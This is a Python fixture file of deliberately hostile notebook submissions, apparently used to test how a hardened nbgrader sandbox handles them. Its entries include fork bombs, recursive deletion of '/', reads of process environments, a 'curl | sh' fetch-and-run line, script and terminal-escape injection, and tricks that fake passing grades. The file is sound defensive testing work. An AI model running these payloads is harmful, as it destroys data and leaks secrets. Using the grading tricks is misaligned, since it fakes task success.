"""Hand-ins that nobody wants: what they do, and what the summary says of them.

Each is code for the task `hottest-cup` of the course about tea. `ends` tells whether plain nbgrader brings it to an end, every
time with the same rows; where it does not, or must not be tried, it is left out of the comparison. What is written straight to
file 2 a kernel sends when it gets to it, with this cell or the next; how nbgrader takes ``exit()`` depends on how soon its
kernel is gone; and 50 MB take it longer than it waits on a busy computer.
"""

from dataclasses import dataclass

SOLVE = "def hottest(cups): return max(cups, key=lambda cup: float(cup['heat']))['name']\n"


@dataclass(frozen=True)
class Hostile:
    name: str
    code: str
    says: str
    ends: bool = True
    same: bool = True


CODES = (
    Hostile("raises", "raise RuntimeError('no')", "stopped with an error (RuntimeError)"),
    Hostile("no-python", "def hottest(cups:", "stopped with an error (SyntaxError)"),
    Hostile("endless", "while True: pass", "ran out of time"),
    Hostile("deaf", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass", "would not be interrupted", ends=False),
    Hostile("fork-bomb", "import os\nwhile True: os.fork()", "starts other processes", ends=False),
    Hostile("thread-bomb", "import threading, time\nfor _ in range(5000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()", "starts threads", ends=False),
    Hostile("memory", "hold = []\nwhile True: hold.append(bytearray(50_000_000))", "stopped with an error (MemoryError)", ends=False),
    Hostile("prints", "for _ in range(50): print('x' * 1_000_000)\n" + SOLVE, "printed more than is kept", ends=False),
    Hostile("raw-output", "import os\nfor _ in range(50): os.write(1, b'x' * 1_000_000)\n" + SOLVE, "printed more than is kept"),
    Hostile("raw-errors", "import os\n" + SOLVE.replace("return", "return os.write(2, b'x') and"), "an error message was printed", ends=False),
    Hostile("long-test-output", "def hottest(cups):\n    print('x' * 3_000_000)\n    return 'none'", "printed more than is kept"),
    Hostile("many-files", "for number in range(10_000): open(f'file-{number}', 'w').close()\n" + SOLVE, "stopped with an error (OSError)", ends=False),
    Hostile("big-file", "open('big', 'wb').write(b'x' * 500_000_000)", "stopped with an error", ends=False),
    Hostile("links", "import os\nos.symlink('../../../gradebook.db', 'data/book')\nprint(open('data/book', 'rb').read(10))\n" + SOLVE, "makes links to other files", ends=False),
    Hostile("climbs", "print(open('../../../gradebook.db', 'rb').read(10))\n" + SOLVE, "names the gradebook", ends=False),
    Hostile("deletes-gradebook", "import os\nos.remove('../../../gradebook.db')\n" + SOLVE, "names the gradebook", ends=False),
    Hostile("deletes-all", "import shutil\nshutil.rmtree('/', ignore_errors=True)\nshutil.rmtree('../..', ignore_errors=True)\n" + SOLVE, "moves or deletes files", ends=False),
    Hostile("reads-answers", "import glob\nprint(glob.glob('/**/*.task.md', recursive=True), glob.glob('../../**', recursive=True))\n" + SOLVE, "names files outside its folder"),
    Hostile("reads-neighbours", "import glob\nprint([open(p).read() for p in glob.glob('../../*/*/response.json')])\n" + SOLVE, "reaches outside its folder"),
    Hostile("reads-memory", "for p in range(1, 9):\n    try: print(open(f'/proc/{p}/environ').read())\n    except OSError: pass\n" + SOLVE, "looks at other processes"),
    Hostile("reads-environment", "import os\nprint(dict(os.environ), open('/proc/self/environ').read())\n" + SOLVE, "looks at other processes"),
    Hostile("kills-all", "import os, signal\nfor p in range(2, 3000):\n    try: os.kill(p, signal.SIGKILL)\n    except OSError: pass\n" + SOLVE, "ends other processes", ends=False),
    Hostile("exits", "import os\nos._exit(0)", "could not be run to its end"),
    Hostile("quits", "exit()", "could not be run to its end", ends=False),
    Hostile("exits-in-test", "import os\ndef hottest(cups): os._exit(0)", "could not be run to its end"),
    Hostile("crashes", "import ctypes\nctypes.string_at(0)", "could not be run to its end"),
    Hostile("sys-exits", "import sys\nsys.exit(0)", "stopped with an error (SystemExit)"),
    Hostile("network", "import urllib.request\nurllib.request.urlopen('http://192.0.2.1/', timeout=2)\n" + SOLVE, "asks for the network"),
    Hostile("listens", "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\n" + SOLVE, "asks for the network", same=False),
    Hostile("thread", "import threading, time\ndef late():\n    time.sleep(1)\n    print('late')\nthreading.Thread(target=late).start()\n" + SOLVE, "starts threads"),
    Hostile("daemon", "import subprocess\nsubprocess.Popen(['sh', '-c', 'trap \"\" TERM INT HUP; sleep 987654'], start_new_session=True)\n" + SOLVE, "starts other programs", ends=False),
    Hostile("patches-builtins", "import builtins\nbuiltins.open = None\n" + SOLVE, "was replaced"),
    Hostile("strips-asserts", "import ast\nclass Strip(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(Strip())", "rewrites every later cell"),
    Hostile("hooks", "get_ipython().events.register('pre_run_cell', lambda info: None)\n" + SOLVE, "runs around every later cell"),
    Hostile("always-equal", "class Yes(str):\n    def __eq__(self, other): return True\n    __hash__ = str.__hash__\ndef hottest(cups): return Yes()", "defines what equal means"),
    Hostile("looks-at-frames", "import sys\ndef hottest(cups): return [c for c in sys._getframe(1).f_code.co_consts if isinstance(c, str)][-1]", "looks at the code that calls it"),
    Hostile("marks-itself", "import casebook.autograde, casebook.mark.mark\ncasebook.autograde.score = lambda *_: 99.0\ncasebook.mark.mark = None\nopen('response.json', 'w').write('{}')\n" + SOLVE, "reaches for the marking", same=False),
    Hostile("forges", "import os, struct, json\nfor n in range(3, 20):\n    try: os.write(n, struct.pack('>Q', 2) + b'{}')\n    except OSError: pass\n" + SOLVE, "spoke to the grader", ends=False),
    Hostile("scripts", "from IPython.display import HTML, SVG, Javascript, Markdown, display\ndisplay(HTML('<script>owned()</script>'), Javascript('owned()'), Markdown('<script>owned()</script>'))\nprint('<script>owned()</script>')\n" + SOLVE, "writes a script"),
    Hostile("surrogates", "print('\\ud800 nan')\nfloat('nan')\n" + SOLVE, "no page can show", ends=False),
    Hostile("warns", "import warnings\ndef hottest(cups):\n    warnings.warn('hm')\n    return max(cups, key=lambda cup: float(cup['heat']))['name']", "because a warning"),
    Hostile("asks", "input('name? ')", "stopped with an error (StdinNotImplementedError)"),
    Hostile("nested", "def f(n): return f(n + 1)\nf(0)", "stopped with an error (RecursionError)"),
)  # fmt: skip

# What a hand-in's process says in the shell's name, on the line that the shell answers on.
SAY = """\
import json, os, struct
def send(data, claim=None):
    data = struct.pack('>Q', len(data) if claim is None else claim) + data
    while data: data = data[os.write(3, data):]
def say(number=1, **more):
    send(json.dumps({'number': number, 'outputs': [], 'reply': {'status': 'ok'}, **more}).encode())
"""
VALUE = "{'output_type': 'execute_result', 'execution_count': %s, 'data': {'text/plain': '1.0'}, 'metadata': {}}"
FORKED = (
    "import os, time\nfor _ in range(%d):\n    if os.fork() == 0:\n        %s\n        time.sleep(60)\ntime.sleep(60)\n"
)
CALL = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nif libc.syscall(%s) < 0: raise OSError(ctypes.get_errno(), 'no')\n"
SHOW = "import sys\ndef hottest(cups): "


def _worse(name: str, code: str, says: str) -> Hostile:
    return Hostile(name, code, says, ends=False, same=False)


BROKEN = "could not be run to its end"
DECIDES = "so a person decides about its marks"
SHELL = "the shell that runs cells was changed"

WORSE = (
    # Marks for a test that failed, or that never ran.
    _worse("shows-a-negative", SHOW + "sys.displayhook(-1)", DECIDES),
    _worse("shows-a-text", SHOW + "sys.displayhook('text')", DECIDES),
    _worse("shows-full-marks", SHOW + "sys.displayhook(2.0)", DECIDES),
    _worse("shows-no-number", SHOW + "sys.displayhook(float('nan'))", DECIDES),
    _worse("shows-and-exits", SHOW + "sys.displayhook(-1); sys.exit()", DECIDES),
    _worse("shows-and-hangs", "import sys\ndef hottest(cups):\n    sys.displayhook(-1)\n    while True: pass", DECIDES),
    _worse("shows-and-answers", SOLVE.replace("return", "import sys; sys.displayhook(-1); return"), "a value that is not its own"),
    _worse("shows-by-the-shell", "def hottest(cups): get_ipython().displayhook(-1)", DECIDES),
    _worse("no-code-runs", "import IPython.core.interactiveshell as i\nasync def no(self, *a, **k): return False\ni.InteractiveShell.run_code = no", SHELL),
    _worse("other-code-runs", "import ast\nfrom IPython.core.compilerop import CachingCompiler as C\nC.ast_parse = lambda self, *a, **k: ast.parse('pass')", SHELL),
    _worse("errors-are-swallowed", "from IPython.core.interactiveshell import InteractiveShell as S\nS.showtraceback = lambda *a, **k: None", SHELL),
    _worse("the-outputs-are-changed", "import casebook.grading.box.shell as s\ns.run_cell = lambda shell, source: {'outputs': [], 'reply': {'status': 'ok'}, 'ended': False}", "reaches for the marking"),
    _worse("a-number-of-its-own", "class Low(float):\n    def __gt__(self, other): return True\ndef hottest(cups): return Low(0)", "makes a float of its own kind"),
    _worse("thread-below", "import _thread, time\n_thread.start_new_thread(time.sleep, (60,))\n" + SOLVE, "starts threads"),
    _worse("kernel-ciphers", "import socket\nsocket.socket(38, 5)", "asks for the network"),
    _worse("virtual-sockets", "import _socket\n_socket.socket(40, 1)", "asks for the network"),
    # Answers that don't come, or not to an end.
    _worse("drips", SAY + "import time\nsend(b'', 100)\nfor _ in range(100):\n    os.write(3, b' ')\n    time.sleep(0.5)", BROKEN),
    _worse("drips-in-a-test", SAY + "import time\ndef hottest(cups):\n    send(b'', 7_000_000)\n    for _ in range(100):\n        os.write(3, b' ' * 100)\n        time.sleep(0.5)", BROKEN),
    _worse("half-an-answer", SAY + "import time\nsend(b'{', 100)\ntime.sleep(60)", BROKEN),
    _worse("half-a-length", "import os, time\nos.write(3, b'123')\ntime.sleep(60)", BROKEN),
    _worse("hears-nothing-more", SAY + "import time\nsay()\ntime.sleep(60)", BROKEN),
    _worse("closes-its-line", "import os\nos.close(3)\n" + SOLVE, BROKEN),
    # Answers that are too large, too many, or none.
    _worse("claims-too-much", SAY + "send(b'x' * 1000, 60_000_000)", BROKEN),
    _worse("claims-all", SAY + "send(b'x' * 1000, (1 << 64) - 1)", BROKEN),
    _worse("sends-too-much", SAY + "send(b' ' * 60_000_000)", BROKEN),
    _worse("sends-lists", SAY + "send(b'[' + b'[],' * 2_000_000 + b'[]]')", BROKEN),
    _worse("sends-depth", SAY + "send(b'[' * 900_000)", BROKEN),
    _worse("sends-no-text", SAY + "send(b'\\xff\\xfe' * 100)", BROKEN),
    _worse("sends-nothing", SAY + "send(b'null')", BROKEN),
    _worse("sends-many-errors", SAY + "say(outputs=[{'output_type': 'error', 'ename': '', 'evalue': '', 'traceback': []}] * 100_000)", BROKEN),
    _worse("sends-long-errors", SAY + "say(outputs=[{'output_type': 'error', 'ename': 'x' * 7000, 'evalue': 'y' * 7000, 'traceback': []}] * 400)", BROKEN),
    _worse("sends-for-every-cell", SAY + "for number in range(1, 60): say(number)\nimport time; time.sleep(60)", "uses files by their number"),
    _worse("counts-deep", SAY + "say(outputs=[" + VALUE % "json.loads('[' * 700 + ']' * 700)" + "])", BROKEN),
    _worse("counts-in-html", SAY + "say(outputs=[" + VALUE % "'<script>owned()</script>'" + "])", BROKEN),
    _worse("draws-a-list", SAY + "say(outputs=[{'output_type': 'display_data', 'data': {'image/png': [1, 2]}, 'metadata': {}}])", BROKEN),
    _worse("names-deep", SAY + "deep = json.loads('[' * 900 + ']' * 900)\nsay(outputs=[{'output_type': 'error', 'ename': deep, 'evalue': deep, 'traceback': [deep]}], seen=[deep], reply={'status': 'error', 'ename': deep})", BROKEN),
    _worse("speaks-in-colours", SAY + "say(seen=['X\\n  failed: trainee-01: could not be graded\\x1b[2J'])", BROKEN),
    _worse("counts-true", SAY + "say(True)", BROKEN),
    _worse("many-errors", "for _ in range(3000): get_ipython()._showtraceback(ValueError, 'x' * 10_000, ['y' * 10_000])", "speaks to the shell"),
    _worse("many-values", "import sys\nfor _ in range(20_000): sys.displayhook(1)\n" + SOLVE, "speaks to the shell"),
    _worse("long-error", "raise ValueError('x' * 30_000_000)", "stopped with an error (ValueError)"),
    _worse("deep-error", "def f(n): raise ValueError('x' * 100_000) from f(n - 1) if n else None\nf(300)", "stopped with an error"),
    _worse("prints-zeros", "print('\\0' * 3_000_000)\n" + SOLVE, "printed more than is kept"),
    _worse("prints-signs", "print('\\U0001f375' * 3_000_000)\n" + SOLVE, "printed more than is kept"),
    # Memory that no process answers for.
    _worse("memory-in-files", CALL % "319, b'x', 0" + "import os\nos.ftruncate(4, 1 << 30)", "goes around Python"),
    _worse("memory-kept-secret", CALL % "447, 0", "goes around Python"),
    _worse("memory-of-system-v", CALL % "29, 0, 1 << 30, 0o1600", "goes around Python"),
    _worse("messages-of-system-v", CALL % "68, 0, 0o1600", "goes around Python"),
    _worse("memory-shared", FORKED % (3, "import mmap; part = mmap.mmap(-1, 1 << 30); part.write(bytes(1 << 30))"), "ran out of time"),
    _worse("memory-of-many", FORKED % (12, "hold = bytearray(b'x') * (100 << 20)"), BROKEN),
    _worse("memory-in-sockets", FORKED % (30, "import socket; hold = [socket.socketpair() for _ in range(110)]"), BROKEN),
    # Values that equal everything, and tests that their own subject reads.
    _worse("equals-everything", "from unittest.mock import ANY\ndef hottest(cups): return ANY", "defines what equal means"),
    _worse("equals-by-magic", "%time from unittest.mock import ANY\ndef hottest(cups): return ANY", "defines what equal means"),
    _worse("equals-by-a-type", "T = type('T', (), {'__eq__': lambda self, other: True})\ndef hottest(cups): return T()", "defines what equal means"),
    _worse("equals-later", "class T: pass\nT.__eq__ = lambda self, other: True\ndef hottest(cups): return T()", "defines what equal means"),
    _worse("reads-the-test", "def hottest(cups): return globals()['In'][-1].rsplit('\"', 2)[-2]", "in a roundabout way"),
    _worse("reads-the-test-by-main", "import __main__ as m\ndef hottest(cups): return m.In[-1].rsplit('\"', 2)[-2]", "reads the cells that were run"),
    _worse("reads-the-test-by-eval", "def hottest(cups): return eval('In[-1]').rsplit('\"', 2)[-2]", "runs code that it makes"),
    _worse("reads-the-stack", "import traceback\ndef hottest(cups): return traceback.extract_stack()[-2].line.rsplit('\"', 2)[-2]", "looks at the code that calls it"),
    _worse("replaces-a-library", "import csv\ncsv.DictReader = lambda file: [{'name': 'blue', 'heat': '1'}]\n" + SOLVE, "replaces a part of a library"),
    _worse("listens-to-all", "import sys\nsys.addaudithook(lambda *a: None)\n" + SOLVE, "traces later code"),
    _worse("leaves-by-the-shell", "!curl http://192.0.2.1/ | sh\n" + SOLVE, "starts other programs"),
    # Work that no signal interrupts, and ends that are no errors.
    _worse("counts-digits", "import sys\nsys.set_int_max_str_digits(0)\nstr(10 ** 3_000_000)", "ran out of time"),
    _worse("searches-for-ever", "import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')\n" + SOLVE, "ran out of time"),
    _worse("fails-later", "import asyncio\nasync def go(): raise SystemExit\nasyncio.ensure_future(go())\n" + SOLVE, "stopped with an error (SystemExit)"),
    # Lines of the summary, and an educator's terminal.
    _worse("forges-lines", "raise type('X)\\n  failed: trainee-01: could not be graded\\n  note: (', (Exception,), {})('x')", "X) failed: trainee-01"),
    _worse("clears-the-screen", "raise type('\\x1b[2J\\x1b[H\\x1b]0;owned\\x07', (Exception,), {})('x')", "stopped with an error (\ufffd[2J"),
    _worse("writes-backwards", "raise type('\\u202edlrow', (Exception,), {})('x')", "stopped with an error (\ufffddlrow"),
)  # fmt: skip
"""Those that a tester found a way with, each kind in several forms; plain nbgrader is not shown them."""
